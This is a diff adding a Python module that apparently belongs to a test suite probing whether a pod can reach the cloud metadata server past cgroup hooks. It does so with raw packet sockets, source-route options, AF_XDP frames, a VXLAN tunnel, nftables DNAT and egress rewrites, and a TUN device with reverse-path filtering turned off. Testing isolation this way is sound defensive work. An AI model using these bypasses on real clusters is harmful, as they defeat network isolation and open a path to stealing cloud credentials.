@@ -1,0 +1,142 @@
+"""Ways past every hook of a cgroup: packets that no socket layer has seen, or that become the metadata server's further on."""
+import ctypes, fcntl, mmap, os, socket, struct, subprocess, time
+from base import M, Absent, dial, sent, tcp, udp
+
+SOL_PACKET, PACKET_QDISC_BYPASS, ETH_P_IP = 263, 20, 0x0800
+TUNSETIFF, IFF_TUN, IFF_NO_PI, SIOCSIFFLAGS, IFF_UP, IFF_RUNNING, SIOCGIFHWADDR = 0x400454CA, 1, 0x1000, 0x8914, 1, 0x40, 0x8927
+AF_XDP, SOL_XDP, XDP_TX_RING, XDP_UMEM_REG, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING = 44, 283, 3, 4, 5, 6
+XDP_COPY, XDP_MMAP_OFFSETS, XDP_PGOFF_TX_RING = 2, 1, 0x80000000
+
+
+def default_route():
+    for line in open("/proc/net/route"):
+        interface, destination, hop, *_ = line.split()
+        if destination == "00000000":
+            return interface, socket.inet_ntoa(struct.pack("=I", int(hop, 16)))
+
+
+def gateway_address():
+    return default_route()[1]
+
+
+def gateway():
+    """Interface and hardware address of the way out."""
+    interface, hop = default_route()
+    udp().sendto(b"x", (hop, 9))
+    deadline = time.monotonic() + 2
+    while time.monotonic() < deadline:
+        for line in open("/proc/net/arp"):
+            address, _, flags, hardware, *_ = line.split()
+            if address == hop and flags == "0x2":
+                return interface, bytes.fromhex(hardware.replace(":", ""))
+    raise TimeoutError
+
+
+def whole_syn(ip, hop=None):
+    """A SYN as it is on the wire, maybe by way of a hop; nobody but the receiver looks at the checksum of TCP."""
+    target = socket.inet_aton(M[0])
+    option = b"\x83\x07\x04" + target + b"\x00" if hop else b""
+    words = 5 + len(option) // 4
+    header = lambda checksum: struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, 4 * words + 20, 1, 0, 64, socket.IPPROTO_TCP, checksum, socket.inet_aton(ip), hop or target) + option
+    total = sum(struct.unpack(f"!{2 * words}H", header(0)))
+    total = (total & 0xFFFF) + (total >> 16)
+    return header(~total & 0xFFFF) + struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
+
+
+def packet_socket(ip, bypass=0, hop=None):
+    """A frame that no socket layer sees; with the bypass, no queueing discipline either."""
+    interface, hardware = gateway()
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
+    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, bypass)
+    s.sendto(whole_syn(ip, hop), (interface, ETH_P_IP, 0, 0, hardware))
+    return sent()
+
+
+def packet_socket_bypass(ip):
+    return packet_socket(ip, 1)
+
+
+def packet_source_route(ip):
+    """By way of the node, which finds the metadata server's address in an option after it has decided to forward."""
+    return packet_socket(ip, hop=socket.inet_aton(gateway_address()))
+
+
+def express(ip):
+    """A frame through an AF_XDP socket."""
+    interface, hardware = gateway()
+    own = fcntl.ioctl(udp(), SIOCGIFHWADDR, struct.pack("16s24x", interface.encode()))[18:24]
+    try:
+        s = socket.socket(AF_XDP, socket.SOCK_RAW, 0)
+    except OSError:
+        raise Absent
+    memory = mmap.mmap(-1, 4 * 4096)
+    area = ctypes.addressof(ctypes.c_char.from_buffer(memory))
+    s.setsockopt(SOL_XDP, XDP_UMEM_REG, struct.pack("=QQII", area, 4 * 4096, 4096, 0))
+    for ring in (XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING, XDP_TX_RING):
+        s.setsockopt(SOL_XDP, ring, struct.pack("=I", 4))
+    _, _, _, _, producer, _, entries, _ = struct.unpack_from("=8Q", s.getsockopt(SOL_XDP, XDP_MMAP_OFFSETS, 128))
+    ring = mmap.mmap(s.fileno(), entries + 4 * 16, mmap.MAP_SHARED, offset=XDP_PGOFF_TX_RING)
+    place = struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex(interface), 0, 0)
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.bind(s.fileno(), place, len(place)):
+        raise OSError(ctypes.get_errno(), "")
+    frame = hardware + own + struct.pack("!H", ETH_P_IP) + whole_syn(ip)
+    memory[: len(frame)] = frame
+    struct.pack_into("=QII", ring, entries, 0, len(frame), 0)
+    struct.pack_into("=I", ring, producer, 1)
+    s.send(b"", socket.MSG_DONTWAIT)
+    return sent()
+
+
+def tool(*arguments):
+    subprocess.run(arguments, check=True)
+
+
+def tunnel(_):
+    """A tunnel of the pod's own whose other end is the metadata server: the outer packet is the kernel's."""
+    tool(*"ip link add k2rvx type vxlan id 7 dstport 80 dev eth0 remote".split(), M[0])
+    try:
+        tool(*"ip addr add 10.98.0.1/24 dev k2rvx".split())
+        tool(*"ip link set k2rvx up".split())
+        tool(*"ip neigh add 10.98.0.2 lladdr 02:00:00:00:00:01 dev k2rvx".split())
+        udp().sendto(b"x", ("10.98.0.2", 9))
+    finally:
+        tool(*"ip link delete k2rvx".split())
+    return sent()
+
+
+def with_table(family, chain):
+    """Dials an address that rules of the pod's own turn into the metadata server's."""
+    tool("nft", f"table {family} k2rpod {{ chain way {{ {chain}; }}; }}")
+    try:
+        return dial(tcp(), ("10.9.9.9", 80))
+    finally:
+        tool("nft", f"delete table {family} k2rpod")
+
+
+def translated():
+    return with_table("ip", f"type nat hook output priority -100; ip daddr 10.9.9.9 dnat to {M[0]}")
+
+
+def rewritten(_):
+    """After the last hook of a cgroup, as a program of the pod's own on its device could."""
+    return with_table("netdev", f"type filter hook egress device eth0 priority 0; ip daddr 10.9.9.9 ip daddr set {M[0]}")
+
+
+def tun(_):
+    """A packet that comes in from a device of the pod's own, and is forwarded by the pod and then by the node."""
+    device = open("/dev/net/tun", "r+b", buffering=0)
+    fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH14x", b"k2rtun", IFF_TUN | IFF_NO_PI))
+    fcntl.ioctl(udp(), SIOCSIFFLAGS, struct.pack("16sH14x", b"k2rtun", IFF_UP | IFF_RUNNING))
+    for device_name in ("all", "k2rtun"):
+        with open(f"/proc/sys/net/ipv4/conf/{device_name}/rp_filter", "w") as file:
+            file.write("0")
+    with open("/proc/sys/net/ipv4/conf/k2rtun/forwarding", "w") as file:
+        file.write("1")
+    device.write(whole_syn("10.99.0.2"))
+    return sent()
+
+
+def service():
+    """A virtual address that the node translates into the metadata server's."""
+    return dial(tcp(), ("10.96.0.9", 80))
